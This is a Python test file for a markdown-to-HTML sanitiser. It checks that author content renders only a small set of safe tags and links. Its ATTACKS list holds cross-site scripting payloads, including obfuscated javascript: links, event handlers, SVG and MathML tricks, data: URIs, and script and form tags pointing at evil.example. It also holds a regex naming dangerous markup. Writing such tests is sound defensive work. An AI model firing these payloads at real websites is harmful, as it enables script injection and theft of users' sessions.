"""ENC-2: whatever an author writes, only harmless HTML comes out."""
from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from content.render import clean_html, render_markdown

DANGER = re.compile(r"<script|<style|<svg|<math|<iframe|<img|\son\w+\s*=|javascript:|data:|vbscript:", re.I)

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](  javascript:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](javascript\u200b:alert(1))",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="https://ok.example" onclick="alert(1)">x</a>',
    '<p onmouseover="alert(1)">hover</p>',
    '<img src=x onerror=alert(1)>',
    "![x](https://evil.example/track.png)",
    '<svg onload="alert(1)"><circle r="10"/></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<math><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>',
    "<div><p>unclosed <b>bold <i>and <a href='https://ok.example'>link",
    '<iframe src="https://evil.example"></iframe>',
    '<style>body{display:none}</style>',
    '<a href="/relative/path">relative</a>',
    '<form action="https://evil.example"><input name=x></form>',
    "<!-- <script>alert(1)</script> -->",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_come_out_harmless(attack):
    html = str(render_markdown(attack))
    assert_only_allowed_tags(html)
    assert not DANGER.search(html), html
    assert "<form" not in html and "<input" not in html and 'href="/' not in html


def test_the_allowed_markup_survives():
    html = str(render_markdown("## Who to call\n\n- **Childline**: [0800 1111](tel:08001111)\n"
                               "- [Fearless](https://www.fearless.org)\n- [Email us](mailto:help@example.org)"))
    assert "<h2>Who to call</h2>" in html and "<strong>Childline</strong>" in html
    assert 'href="tel:08001111"' in html and 'href="https://www.fearless.org"' in html
    assert 'href="mailto:help@example.org"' in html and 'rel="noopener noreferrer"' in html


def test_a_level_one_heading_becomes_level_two():
    assert str(render_markdown("# Title")) == "<h2>Title</h2>"


ALLOWED_TAG = re.compile(r'^</?(p|br|ul|ol|li|strong|em|h2|h3)>$|^<a( href="(https://|mailto:|tel:)[^"]*")? rel="noopener noreferrer">$|^</a>$')


def assert_only_allowed_tags(html: str) -> None:
    for tag in re.findall(r"<[^>]*>", html):
        assert ALLOWED_TAG.match(tag), tag


@given(st.text(max_size=400))
def test_cleaning_is_idempotent_and_never_dangerous(text):
    once = clean_html(text)
    assert clean_html(once) == once
    assert_only_allowed_tags(once)
    assert_only_allowed_tags(str(render_markdown(text)))


@given(st.text(alphabet=st.sampled_from(list("<>\"'=/ ajvscriptonerrorhf:[]()")), max_size=80))
def test_markdown_of_tag_soup_has_no_live_script(text):
    html = str(render_markdown(text))
    assert not re.search(r"<script|\son\w+\s*=|href=\"(?!https://|mailto:|tel:)", html, re.I), html
